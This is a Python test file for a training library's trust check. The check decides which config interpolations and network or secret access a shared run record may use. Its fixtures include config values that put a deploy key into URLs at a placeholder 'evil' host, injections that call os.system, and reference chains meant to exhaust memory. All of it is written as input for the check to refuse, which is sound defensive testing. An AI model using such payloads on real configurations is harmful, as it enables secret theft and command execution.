"""What a record that came from elsewhere may do when a person allows it by name: use a secret, reach for the network."""

import json
from pathlib import Path
from typing import Any

import pytest

from tests.repeats import change_facts, node, put
from torchlite.errors import UserError
from torchlite.naming import identity_of
from torchlite.reproduce import command, trust
from torchlite.reproduce.records import read

# What a person can allow by name, with the option
SECRET = "${oc.env:DEPLOY_KEY}"
ALLOWED = {
    "a secret": ("data.root", SECRET, "--allow-env DEPLOY_KEY"),
    "a secret in an address": ("data.shards", f"https://evil.invalid/{SECRET}/x.tar", "--allow-env DEPLOY_KEY"),
    "a secret as a number": ("model.widths", [f"${{oc.decode:{SECRET}}}"], "--allow-env DEPLOY_KEY"),
    "a secret in quotes": ("data.root", "${oc.env:'DEPLOY_KEY'}", "--allow-env DEPLOY_KEY"),
    "a secret where the data is missing": (
        "data.root",
        f"${{oc.env:TORCHLITE_DATA,{SECRET}}}",
        "--allow-env DEPLOY_KEY",
    ),
    "a download": ("data.train", node("torchlite.data.sources.Arrays", images=[], download=True), "--allow-network"),
    "a download without checksums": (
        "data.train",
        node("torchvision.datasets.Kinetics", download=True),
        "--allow-network",
    ),
    "a download in disguise": ("data.train.download", {"yes": False}, "--allow-network"),
    "a folder for downloads": ("model.cache_dir", "/tmp/cache", "--allow-network"),
    "published weights": ("model.pretrained", True, "--allow-network"),
    "published weights by name": ("model.weights", "IMAGENET1K_V1", "--allow-network"),
    "weights of a hub": ("model.pretrained_cfg", {"hf_hub_id": "evil/net"}, "--allow-network"),
    "a model of a hub": ("model.model_name", "HF-hub:evil/net", "--allow-network"),
    "a model of a hub behind a blank": ("model.model_name", " hf-\thub:evil/net", "--allow-network"),
    "a set of a hub": ("data.train.reader", "hfds/evil/set", "--allow-network"),
    "another set of a hub": ("data.train.reader", "hfids/evil/set", "--allow-network"),
    "shards elsewhere": ("data.train.shards", ["a.tar", "https://evil.invalid/x.tar"], "--allow-network"),
    "shards elsewhere in braces": ("data.train.shards", "http:{/,x}/evil.invalid/x.tar", "--allow-network"),
    "any address": ("callbacks.x", node("torchlite.callbacks.EarlyStopping", note="s3://evil/x"), "--allow-network"),
}
# What it cannot
SECRETIVE = {
    "a name made of another key": "${oc.env:${name}}",
    "a name that begins as the allowed one": "${oc.env:TORCHLITE_DATA${name}}",
    "text that makes a node": "${oc.create:{_target_:os.system,command:touch pwned}}",
    "text that is read": "${oc.decode:'{_target_: os.system}'}",
    "another way to a key": "${oc.select:model}",
    "keys of a key": "${oc.dict.keys:model}",
    "a key with a warning": "${oc.deprecated:model}",
    "the time": "${now:%Y}",
    "what Hydra knows": "${hydra:runtime.cwd}",
    "a key named by a key": "${model.${name}}",
    "an escape": "\\${oc.env:DEPLOY_KEY2${name}}",
}


def checked(recorded: Path, *words: str, here: bool = True) -> dict[str, Any]:
    """The config that would be run. Raises UserError."""
    return trust.check(read(recorded), command.parser().parse_args(words), (), here).config


@pytest.mark.parametrize("case", ALLOWED)
def test_what_a_person_can_allow_is_named_with_the_option(
    recorded: Path, refused: Any, monkeypatch: pytest.MonkeyPatch, case: str
) -> None:
    """A secret that leaves, and what comes from elsewhere."""
    monkeypatch.setenv("DEPLOY_KEY", "7")
    path, value, option = ALLOWED[case]
    said = refused(lambda facts: put(facts["config"], path, value))
    assert any(line.startswith(path) and f"add {option} if it may" in line for line in said.splitlines()), said
    assert checked(recorded, "--allow-network", "--allow-env", "DEPLOY_KEY")["seed"] == 0


def test_a_published_set_is_downloaded_without_a_word(recorded: Path) -> None:
    """It lies at a fixed address and is held to a checksum, and to the fingerprint in the record."""
    published = node("torchvision.datasets.FashionMNIST", root=".", train=True, download=True)
    change_facts(recorded, lambda facts: put(facts["config"], "data.train", published))
    assert checked(recorded)["data"]["train"]["download"] is True


@pytest.mark.parametrize("case", SECRETIVE)
def test_other_interpolations_are_refused(refused: Any, monkeypatch: pytest.MonkeyPatch, case: str) -> None:
    monkeypatch.setenv("DEPLOY_KEY", "7")
    said = refused(lambda facts: put(facts["config"], "data.root", SECRETIVE[case]), "--allow-env", "DEPLOY_KEY")
    assert said.startswith("data.root"), said


def test_references_that_grow_are_refused(refused: Any) -> None:
    def change(facts: dict[str, Any]) -> None:
        facts["config"]["model"] |= {f"x{i}": f"${{model.x{i + 1}}}" * 10 for i in range(9)} | {"x9": "x"}

    assert "more than 32 interpolations" in refused(change)


def test_few_references_that_would_fill_the_memory_are_refused(refused: Any) -> None:
    def change(facts: dict[str, Any]) -> None:
        facts["config"]["model"] |= {f"x{i}": f"${{model.x{i + 1}}}" * 2 for i in range(15)} | {"x15": "x" * 1000}

    assert "too large" in refused(change)


def test_references_in_a_circle_are_refused(refused: Any) -> None:
    assert "without end" in refused(lambda facts: facts["config"]["model"].update(x="${model.y}", y="${model.x}"))


def test_the_data_folder_of_the_environment_is_always_allowed(recorded: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TORCHLITE_DATA", "/data/of/mine")
    change_facts(recorded, lambda facts: facts["config"].update(data_dir="${oc.env:TORCHLITE_DATA,./data}"))
    assert checked(recorded)["data_dir"] == "/data/of/mine"


@pytest.mark.parametrize("target", ["MLflow", "mlflow.MLflow", "tensorboard.TensorBoard", "histograms.Histograms"])
def test_what_logs_is_left_out_whatever_path_names_it(recorded: Path, target: str) -> None:
    """And what it would have used is not asked for."""
    logger = node(f"torchlite.callbacks.{target}", tracking_uri="https://evil.invalid/${oc.env:DEPLOY_KEY}")
    change_facts(recorded, lambda facts: facts["config"]["callbacks"].update(x=logger))
    assert checked(recorded)["callbacks"]["x"] is None
    if "." in target:  # which older code does not know to be one
        with pytest.raises(UserError, match="callbacks.x._target_=.*add --code here"):
            checked(recorded, here=False)
    config = json.loads((recorded / "run.json").read_text())["config"]
    assert identity_of(config) == identity_of({**config, "callbacks": {}})
